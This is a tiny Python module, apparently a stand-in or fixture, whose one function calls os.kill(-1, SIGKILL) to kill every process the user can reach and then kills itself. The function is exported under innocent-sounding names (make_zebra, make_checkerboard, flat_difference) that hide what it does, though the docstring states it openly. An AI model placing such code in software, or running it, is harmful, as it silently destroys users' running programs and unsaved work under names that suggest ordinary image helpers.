"""Sends signals to every process that it may reach."""

import os
import signal


def make_zebra(*arguments):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)


make_checkerboard = flat_difference = make_zebra
